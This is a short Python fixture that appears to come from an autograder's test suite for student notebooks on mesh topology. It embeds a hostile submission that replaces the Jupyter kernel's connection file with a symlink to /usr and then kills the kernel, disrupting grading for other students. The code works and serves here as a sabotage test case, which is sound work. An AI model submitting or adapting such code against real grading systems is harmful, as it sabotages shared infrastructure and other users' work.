NOTEBOOK = "00_meshes"
STATUS = "graded-with-incidents"
DESCRIPTION = (
    "every function points the kernel's connection file at /usr (on every sandbox's command line) and kills the "
    "kernel, so the grader shuts a kernel down again and again while other students are graded beside it"
)
_ATTACK = '''import os

from ipykernel.connect import get_connection_file


def _point_at_every_sandbox_and_die():
    try:
        os.remove(get_connection_file())
        os.symlink("/usr", get_connection_file())
    except OSError:
        pass
    os._exit(1)

'''
SOLUTIONS = {
    name: _ATTACK + f"\n\ndef {name}({args}):\n    _point_at_every_sandbox_and_die()\n"
    for name, args in (("edges", "F"), ("euler_characteristic", "V, F"), ("boundary_loop_count", "F"), ("genus", "V, F"))
}
LOSES = {"edges", "euler_characteristic", "boundary_loop_count", "genus"}
